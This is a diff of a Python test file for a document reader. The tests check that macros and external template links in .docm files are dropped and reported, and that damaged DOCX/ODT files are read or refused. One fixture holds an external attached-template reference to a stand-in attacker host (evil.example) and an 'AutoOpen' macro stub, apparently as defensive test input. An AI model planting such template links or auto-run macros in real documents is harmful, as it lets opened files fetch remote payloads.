@@ -103,7 +103,8 @@ def test_macros_are_left_out_and_said_to_be() -> None:
     relations = (
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="m" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
-        '<Relationship Id="t" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+        '<Relationship Id="t" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
+        "</Relationships>"
     )
     raw = changed(WORD, {"word/_rels/document.xml.rels": relations.encode(), "word/vbaProject.bin": b"Sub AutoOpen"})
     document = read_document(raw, "p.docm")
@@ -126,8 +127,8 @@ def changed(raw: bytes, parts: dict[str, bytes]) -> bytes:
 
 
 def test_whatever_is_damaged_in_a_file_it_is_read_or_refused() -> None:
-    chance = random.Random(7)
-    numbering = '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum>'
+    chance = random.Random(7)  # noqa: S311  damage, not secrets
+    numbering = '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:lvlText w:val="%1."/></w:lvl></w:abstractNum>'
     numbering += '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
     body = (
         para("Rules:")
@@ -144,7 +145,7 @@ def test_whatever_is_damaged_in_a_file_it_is_read_or_refused() -> None:
     for raw, part in ((docx(body, numbering=numbering), "word/document.xml"), (odt(item * 3, automatic=lists), "content.xml")):
         with ZipFile(BytesIO(raw)) as packed:
             whole = packed.read(part).decode()
-        pieces = re.findall(r'"[^"]*"|</?[\w:]+>|<[^<>]+/>', whole) + ['"-1"', '"99999999999"', '"x"', '""']
+        pieces = [*re.findall(r'"[^"]*"|</?[\w:]+>|<[^<>]+/>', whole), '"-1"', '"99999999999"', '"x"', '""']
         for _ in range(60):
             spoilt = bytearray(raw)
             for _ in range(8):
